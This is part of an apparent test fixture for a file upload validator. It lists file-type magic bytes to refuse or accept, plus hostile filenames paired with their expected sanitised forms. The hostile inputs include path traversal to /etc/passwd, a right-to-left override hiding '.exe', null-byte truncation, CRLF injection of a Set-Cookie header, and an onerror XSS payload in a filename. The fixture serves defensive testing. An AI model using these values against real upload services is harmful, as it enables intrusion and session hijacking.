  refused("kind", "a program of a Mac", "a.jpg", () => bytes(0xcf, 0xfa, 0xed, 0xfe, zeros(60))),
  refused("kind", "a class of Java", "a.jpg", () => bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, zeros(60))),
  refused("kind", "WebAssembly", "a.mp3", () => bytes("\0asm", 1, 0, 0, 0, zeros(20))),
  refused("kind", "a short cut", "a.lnk", () => bytes(0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, zeros(60))),
  refused("kind", "Flash", "a.swf", () => bytes("FWS", 10, zeros(60))),
  refused("kind", "RAR", "a.rar", () => bytes("Rar!", 0x1a, 7, 1, 0, zeros(40))),
  refused("kind", "7z", "a.7z", () => bytes("7z", 0xbc, 0xaf, 0x27, 0x1c, zeros(40))),
  refused("kind", "gzip", "a.gz", () => bytes(0x1f, 0x8b, 8, 0, zeros(40))),
  refused("kind", "a database", "a.db", () => bytes("SQLite format 3\0", zeros(100))),
  refused("kind", "a film of Windows whose head never ends", "a.wmv", () =>
    bytes(0x30, 0x26, 0xb2, 0x75, 0x8e, 0x66, 0xcf, 0x11, 0xa6, 0xd9, 0, 0xaa, 0, 0x62, 0xce, 0x6c, zeros(100)),
  ),
  refused("kind", "Matroska", "a.mkv", () => ebml("matroska")),
  taken(
    "MP3 with a title that is a script",
    "a.mp3",
    () => bytes("ID3", 3, 0, 0, 0, 0, 0, 32, `TIT2${script.slice(0, 28)}`, 0xff, 0xfb, 0x90, 0, zeros(400)),
    "audio/mpeg",
  ),
  taken("WAV", "a.wav", () => bytes("RIFF", 36, 0, 0, 0, "WAVEfmt ", 16, 0, 0, 0, zeros(40)), "audio/wav"),
  taken("OGG", "a.ogg", () => bytes("OggS", 0, 2, zeros(20), 1, 30, 1, "vorbis", zeros(60)), "audio/ogg"),
  taken("AMR of a telephone", "a.amr", () => bytes("#!AMR\n", zeros(60)), "audio/amr"),
  taken("M4A", "voice.m4a", () => ftyp("M4A "), "audio/mp4"),
  taken("MP4", "a.mp4", () => ftyp("mp42"), "video/mp4"),
  taken("MOV", "a.mov", () => ftyp("qt  "), "video/quicktime"),
  taken("3GP", "a.3gp", () => ftyp("3gp4"), "video/3gpp"),
  taken("WebM", "a.webm", () => ebml("webm"), "video/webm"),
];

const named = (what: string, sent: string, name: string): HostileFile =>
  taken(what, sent, () => latin("a"), "text/plain", { name });
const names: readonly HostileFile[] = [
  named("a name that reads backwards", "photo\u202egpj.exe", "photogpj.txt"),
  named("a name with isolates of direction", "\u2067صورة\u2069.txt", "صورة.txt"),
  named("a name that ends early", "a.txt\0.exe", "a.txt.txt"),
  named("a path out of the folder", "../../../etc/passwd", "passwd.txt"),
  named("a path of Windows", "C:\\Windows\\system32\\cmd.exe", "cmd.txt"),
  named("a stream of Windows", "a.txt::$DATA", "a.txt__$DATA.txt"),
  named("a device of Windows", "CON.txt", "file_CON.txt"),
  named("dots alone", "....", "file.txt"),
  named("blanks alone", "   ", "file.txt"),
  named("a hidden file", ".htaccess", "htaccess.txt"),
  named("a second line for the header", 'a"\r\nSet-Cookie: x=y\r\n.txt', "a_Set-Cookie_ x=y.txt"),
  named("a name that is a script", "<img src=x onerror=alert(1)>.txt", "_img src=x onerror=alert(1)_.txt"),
  named("a name of 3,000 letters", `${"م".repeat(400)}.txt`, `${"م".repeat(116)}.txt`),
  named("letters that are put together", "cafe\u0301.txt", "caf\u00e9.txt"),
  named("letters nobody sees", "a\u200b\u2060b\ufeff.txt", "ab.txt"),
  named("half a letter", "a\ufffd.txt", "a\ufffd.txt"),
  named("many endings", "invoice.pdf.js.vbs", "invoice.pdf.js.txt"),
  named("percents", "100%25.txt", "100_25.txt"),
];

export const hostileFiles: readonly HostileFile[] = [...images, ...documents, ...texts, ...programs, ...names];
